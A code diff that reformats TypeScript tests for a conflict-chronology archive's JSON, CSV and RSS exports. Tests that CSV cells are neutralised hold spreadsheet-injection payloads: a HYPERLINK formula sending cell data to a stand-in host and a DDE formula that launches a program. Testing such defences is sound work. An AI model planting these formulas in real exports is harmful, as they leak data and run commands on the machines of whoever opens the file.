@@ -71,7 +71,14 @@ const chronology: Chronology = {
     source('beta', { authorStatus: 'named', authors: [{ name: 'B. Writer' }], translator: 'T. Ranslator' }),
     source('alpha', { publisher: 'The Paper, Ltd.', publisherBasis: 'Masthead.', url: 'https://paper.example/a' }),
   ],
-  places: [{ id: 'shusha', label: 'Shusha / Shushi', kind: 'town', names: [{ name: 'Shusha' }, { name: 'Shushi', note: 'Armenian' }] }],
+  places: [
+    {
+      id: 'shusha',
+      label: 'Shusha / Shushi',
+      kind: 'town',
+      names: [{ name: 'Shusha' }, { name: 'Shushi', note: 'Armenian' }],
+    },
+  ],
   eras: [
     { id: 'aftermath', name: 'Aftermath', start: '2023-01-01', end: '2024-12-31', description: 'After.' },
     { id: 'war', name: 'War', start: '1988-01-01', end: '1994-12-31', description: 'The war.' },
@@ -157,10 +164,31 @@ describe('eventsJson', () => {
   it('writes keys in a fixed order and omits absent optional fields', () => {
     const first = file.events[0]!;
     expect(Object.keys(first)).toEqual([
-      'id', 'url', 'date', 'start', 'end', 'precision', 'approximate', 'uncertain', 'dateBasis',
-      'title', 'summary', 'era', 'places', 'tags', 'claims', 'disputes', 'corrections',
+      'id',
+      'url',
+      'date',
+      'start',
+      'end',
+      'precision',
+      'approximate',
+      'uncertain',
+      'dateBasis',
+      'title',
+      'summary',
+      'era',
+      'places',
+      'tags',
+      'claims',
+      'disputes',
+      'corrections',
     ]);
-    expect(first.claims[0]).toEqual({ id: 'a', source: 'alpha', quote: AWKWARD_QUOTE, kind: 'text', note: 'Contradicts beta, "strongly".' });
+    expect(first.claims[0]).toEqual({
+      id: 'a',
+      source: 'alpha',
+      quote: AWKWARD_QUOTE,
+      kind: 'text',
+      note: 'Contradicts beta, "strongly".',
+    });
     expect('note' in first.claims[1]!).toBe(false);
     expect(first.dateBasis).toEqual({ kind: 'stated', claim: 'a' });
     expect(first.disputes[0]?.positions.map((p) => p.claim)).toEqual(['a', 'b']);
@@ -191,7 +219,12 @@ describe('sourcesJson, placesJson, erasJson', () => {
       publishedEnd: '2023-10-31',
       events: ['1992-shusha', '2023-exodus'],
     });
-    expect(beta).toMatchObject({ publisher: null, originalUrl: null, translator: 'T. Ranslator', events: ['1992-shusha'] });
+    expect(beta).toMatchObject({
+      publisher: null,
+      originalUrl: null,
+      translator: 'T. Ranslator',
+      events: ['1992-shusha'],
+    });
     expect(beta?.authors).toEqual([{ name: 'B. Writer', affiliation: null }]);
   });
 
@@ -202,7 +235,10 @@ describe('sourcesJson, placesJson, erasJson', () => {
       url: 'https://example.org/archive/karabakh/places/#shusha',
       label: 'Shusha / Shushi',
       kind: 'town',
-      names: [{ name: 'Shusha', note: null }, { name: 'Shushi', note: 'Armenian' }],
+      names: [
+        { name: 'Shusha', note: null },
+        { name: 'Shushi', note: 'Armenian' },
+      ],
       events: ['1992-shusha'],
     });
   });
@@ -222,7 +258,8 @@ describe('eventsCsv', () => {
     const [header, ...rows] = parseCsv(text);
     return { header, rows };
   };
-  const column = (row: string[] | undefined, name: (typeof EVENTS_CSV_COLUMNS)[number]) => row?.[EVENTS_CSV_COLUMNS.indexOf(name)];
+  const column = (row: string[] | undefined, name: (typeof EVENTS_CSV_COLUMNS)[number]) =>
+    row?.[EVENTS_CSV_COLUMNS.indexOf(name)];
 
   it('is RFC 4180 with CRLF after every record, header first', () => {
     const { header, rows } = parsed();
@@ -235,7 +272,10 @@ describe('eventsCsv', () => {
     const { rows } = parsed();
     expect(rows).toHaveLength(4);
     expect(rows.map((row) => `${column(row, 'event_id')}#${column(row, 'claim_id')}`)).toEqual([
-      '1992-shusha#a', '1992-shusha#b', '1992-shusha#c', '2023-exodus#c1',
+      '1992-shusha#a',
+      '1992-shusha#b',
+      '1992-shusha#c',
+      '2023-exodus#c1',
     ]);
   });
 
@@ -249,7 +289,14 @@ describe('eventsCsv', () => {
 
   it('says who said what, and which claims are disputed', () => {
     const { rows } = parsed();
-    expect(rows.map((row) => [column(row, 'source_id'), column(row, 'source_title'), column(row, 'claim_kind'), column(row, 'disputed')])).toEqual([
+    expect(
+      rows.map((row) => [
+        column(row, 'source_id'),
+        column(row, 'source_title'),
+        column(row, 'claim_kind'),
+        column(row, 'disputed'),
+      ]),
+    ).toEqual([
       ['alpha', 'Article alpha', 'text', 'yes'],
       ['beta', 'Article beta', 'reported-speech', 'yes'],
       ['beta', 'Article beta', 'caption', 'no'],
@@ -260,7 +307,15 @@ describe('eventsCsv', () => {
   });
 
   it('neutralises every cell a spreadsheet would run as a formula, reversibly', () => {
-    const risky = ['=HYPERLINK("https://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', "'already quoted'"];
+    const risky = [
+      '=HYPERLINK("https://x.example/?"&A1,"click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      "'already quoted'",
+    ];
     const safe = ['plain', '1992-02-26', '', ' =1', '\u2212 minus sign', '“=” in quotes'];
     const [parsedRow] = parseCsv(csvText([[...risky, ...safe]]));
     // Every risky cell starts with an apostrophe, so no spreadsheet reads it as a formula ...
@@ -272,8 +327,11 @@ describe('eventsCsv', () => {
   });
 
   it('writes a formula-like quote so that it reads as text', () => {
-    const formula = '=cmd|\' /C calc\'!A0';
-    const withFormula = { ...chronology, events: chronology.events.map((e, i) => (i === 0 ? { ...e, claims: [{ ...e.claims[0]!, quote: formula }] } : e)) };
+    const formula = "=cmd|' /C calc'!A0";
+    const withFormula = {
+      ...chronology,
+      events: chronology.events.map((e, i) => (i === 0 ? { ...e, claims: [{ ...e.claims[0]!, quote: formula }] } : e)),
+    };
     const [, ...rows] = parseCsv(eventsCsv(withFormula, SITE));
     const quotes = rows.map((row) => column(row, 'quote'));
     expect(quotes).toContain(`'${formula}`);
@@ -292,8 +350,13 @@ describe('eventsFeedItems', () => {
   const items = eventsFeedItems(chronology, SITE);
 
   it('dates every item by the content version, not the clock', () => {
-    expect(items.map((item) => item.pubDate?.toISOString())).toEqual(['2026-11-23T00:00:00.000Z', '2026-11-23T00:00:00.000Z']);
-    expect(eventsFeedItems({ ...chronology, version: 'unversioned' }, SITE).every((item) => item.pubDate === undefined)).toBe(true);
+    expect(items.map((item) => item.pubDate?.toISOString())).toEqual([
+      '2026-11-23T00:00:00.000Z',
+      '2026-11-23T00:00:00.000Z',
+    ]);
+    expect(
+      eventsFeedItems({ ...chronology, version: 'unversioned' }, SITE).every((item) => item.pubDate === undefined),
+    ).toBe(true);
   });
 
   it('uses the permalink as a stable id and says when the event happened', () => {
@@ -308,7 +371,8 @@ describe('eventsFeedItems', () => {
   });
 
   it('renders through @astrojs/rss reproducibly, with permalink guids', async () => {
-    const render = () => getRssString({ title: 'Feed', description: 'Events', site: SITE, items: eventsFeedItems(chronology, SITE) });
+    const render = () =>
+      getRssString({ title: 'Feed', description: 'Events', site: SITE, items: eventsFeedItems(chronology, SITE) });
     const xml = await render();
     expect(await render()).toBe(xml);
     const parsed = new XMLParser({ ignoreAttributes: false }).parse(xml) as {
